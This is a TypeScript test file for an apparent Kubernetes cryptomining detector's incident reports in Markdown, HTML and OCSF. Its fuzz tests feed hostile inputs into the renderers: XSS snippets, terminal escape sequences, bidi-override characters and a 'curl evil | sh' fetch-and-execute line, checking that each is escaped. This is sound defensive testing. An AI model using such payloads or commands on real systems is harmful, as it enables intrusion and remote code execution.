import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Incident } from '../../api/incident.ts';
import { API_VERSION } from '../../api/names.ts';
import type { Report } from '../../api/report.ts';
import { details } from '../../cli/plugin/incident-details.ts';
import { processTrees } from '../../cli/plugin/report/facts.ts';
import { html } from '../../cli/plugin/report/html.ts';
import { markdown } from '../../cli/plugin/report/markdown.ts';
import { ocsf } from '../../cli/plugin/report/ocsf.ts';

const time = '2026-11-23T10:00:00.000Z';

function reportOf(argument: string): Report {
  const incident: Incident = {
    apiVersion: API_VERSION,
    kind: 'Incident',
    metadata: { name: 'shop-collector-701588' },
    spec: { namespace: 'shop', workload: { kind: 'DaemonSet', name: 'collector' } },
    status: {
      phase: 'Contained',
      confidence: 0.98,
      reasons: [`stratum-protocol: ${argument}`],
      firstSeen: time,
      lastSeen: time,
      detections: [
        {
          id: '0'.repeat(32),
          time,
          rule: 'stratum-protocol',
          severity: 'critical',
          confidence: 0.98,
          action: 'dropped',
          process: {
            pid: 42,
            exe: '/tmp/kworker',
            argv: ['kworker', argument],
            uid: 0,
            sha256: 'a'.repeat(64),
            ancestors: [{ pid: 7, exe: '/bin/sh', argv: ['sh', '-c', argument] }],
          },
          container: {
            id: 'c1',
            cgroup: '/kubepods/x',
            podUid: 'u1',
            name: 'main',
            namespace: 'shop',
            pod: 'collector-x',
            workload: { kind: 'DaemonSet', name: 'collector' },
            image: 'registry.example.com/collector:2',
          },
          evidence: {
            destinations: [{ address: '192.0.2.7', port: 14444 }],
            cpu: {
              samples: [
                [1_000, 12],
                [11_000, 97],
                [21_000, 99],
              ],
              baseline: 12,
            },
          },
          repeats: 3,
        },
      ],
      pods: ['shop/collector-x'],
      nodes: ['node-1'],
      fingerprint: [],
      timeline: [{ time, source: 'runtime', message: argument }],
      omitted: { detections: 0, pods: 0, timeline: 2 },
      attribution: {
        creator: {
          user: `system:serviceaccount:shop:${argument}`,
          groups: [],
          address: '203.0.113.66',
          userAgent: argument,
          auditID: 'a-1',
          time,
        },
        wayIn: [
          {
            kind: 'grant',
            time,
            user: 'system:anonymous',
            address: '203.0.113.66',
            auditID: 'a-0',
            message: argument,
          },
        ],
        siblings: [
          {
            namespace: 'media',
            kind: 'DaemonSet',
            name: 'log-rotate',
            strength: 'strong',
            reasons: [argument],
            auditID: 'a-2',
          },
        ],
        changes: [],
        respawns: 2,
        confidence: 0.95,
        reasons: [],
        missing: [argument],
      },
      steps: [
        {
          step: 'confirm',
          state: 'Done',
          message: 'Mining.',
          evidence: [`process: ${argument}`],
          undo: argument,
          time,
        },
      ],
    },
  };
  return { generated: time, incident, denials: [] };
}

/** What would steer a terminal or turn text around, in lines. */
const STEERING = /(?!\n)[\p{Cc}\p{Cf}]/u;

describe('a report', () => {
  let report: Report;
  beforeAll(() => {
    report = reportOf('--coin monero');
  });

  test('in Markdown tells what, where, how sure, what was done, and when', () => {
    const text = markdown(report);
    expect(text).toMatch(/^# Cryptomining in DaemonSet shop\/collector\n/);
    for (const part of [
      'confidence 0.98',
      'collector-x',
      'node-1',
      '  /tmp/kworker (pid 42)',
      '99 %',
      '### confirm: Done',
      'from 203.0.113.66',
      'Theirs as well: DaemonSet media/log-rotate',
    ]) {
      expect(text).toContain(part);
    }
    expect(text).toContain(`| ${time} | runtime |`);
    expect(text).toContain('Left out for size: 2 lines of the timeline.');
  });

  test('in HTML is one file with timeline, process tree and CPU course, without script', () => {
    const text = html(report);
    expect(text).not.toMatch(/<script|https?:\/\/|<link|<iframe|\son\w+=/);
    const figures = text.match(/<svg/g) ?? [];
    expect(figures).toHaveLength(3);
    for (const part of ['role="img"', '<title id=', '<desc id=']) {
      expect(text.split(part).length - 1).toBe(figures.length);
    }
    expect(text).toContain('<polyline points="48,146.8 504,10.8 960,7.6"');
    expect(text).toContain('prefers-color-scheme: dark');
    expect(text).toContain('@media print');
  });

  test('in HTML forbids everything but its own style, by its hash', () => {
    const text = html(report);
    const [, policy] = /Content-Security-Policy" content="([^"]+)"/.exec(text) ?? [];
    const [, style = ''] = /<style>(.*)<\/style>/s.exec(text) ?? [];
    const hash = createHash('sha256').update(style).digest('base64');
    expect(policy).toBe(
      `default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'`,
    );
    expect(text).not.toMatch(/\sstyle=/);
  });

  test('in HTML puts chains of one pod together where they begin alike, and marks who was caught', () => {
    const [first] = report.incident.status?.detections ?? [];
    if (!first) throw new Error('no detection');
    const second = {
      ...first,
      id: '1'.repeat(32),
      rule: 'miner-name',
      process: { ...first.process, pid: 43, exe: '/tmp/xmrig' },
    };
    const [tree, ...others] = processTrees([first, second]);
    expect(others).toEqual([]);
    expect(tree?.roots).toHaveLength(1);
    expect(tree?.roots[0]?.children.map(({ process, rules }) => [process.exe, rules])).toEqual([
      ['/tmp/kworker', ['stratum-protocol']],
      ['/tmp/xmrig', ['miner-name']],
    ]);
  });

  test('in HTML shows characters that would hide or turn text around by their code', () => {
    const text = html(reportOf('safe\u202egpj.exe\u0000\u200b\ud800'));
    expect(text).toContain('safe\\u202egpj.exe\\u0000\\u200b\ufffd');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may be left.
    expect(text).not.toMatch(/[\u202a-\u202e\u0000\u200b]/);
  });

  test('in OCSF is one Detection Finding a line', () => {
    const [line = '', end] = ocsf(report).split('\n');
    expect(end).toBe('');
    const finding = JSON.parse(line);
    expect(finding).toMatchObject({
      class_uid: 2004,
      type_uid: 200401,
      severity_id: 5,
      status_id: 2,
      time: Date.parse(time),
      metadata: { correlation_uid: 'shop-collector-701588', version: '1.3.0' },
      finding_info: { attacks: [{ sub_technique: { uid: 'T1496.001' } }] },
    });
    expect(finding.evidences[0].process.parent_process.pid).toBe(7);
    expect(finding.evidences[0].dst_endpoint).toEqual({ ip: '192.0.2.7', port: 14444 });
  });

  test('shows what an attacker named as text, whatever it is', () => {
    const tags =
      /<(?!\/?(?:!doctype|html|head|meta|title|style|body|h1|h2|h3|p|b|code|pre|ul|li|table|tr|th|td|main|meta|thead|tbody|figure|desc|circle|svg|rect|text|path|line|polyline)\b)/i;
    const nasty = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        '<script>alert(1)</script>',
        '"><img src=x onerror=y>',
        '```\n# owned',
        '| a | b |',
        '</pre>',
        '\u001b]0;owned\u0007\u009b2J',
        'x\n  To do       curl evil | sh',
      ),
    );
    fc.assert(
      fc.property(nasty, (argument) => {
        const named = reportOf(argument);
        expect(html(named)).not.toMatch(tags);
        const headings = (text: string) => text.split('\n').filter((line) => line.startsWith('#')).length;
        expect(headings(markdown(named))).toBe(headings(markdown(report)));
        expect(markdown(named)).not.toMatch(STEERING);
        const told = details(named.incident, undefined);
        expect(told).not.toMatch(STEERING);
        expect(told.split('\n')).toHaveLength(details(report.incident, undefined).split('\n').length);
        expect(JSON.parse(ocsf(named)).evidences[0].process.cmd_line).toBe(`kworker ${argument}`);
      }),
    );
  });
});
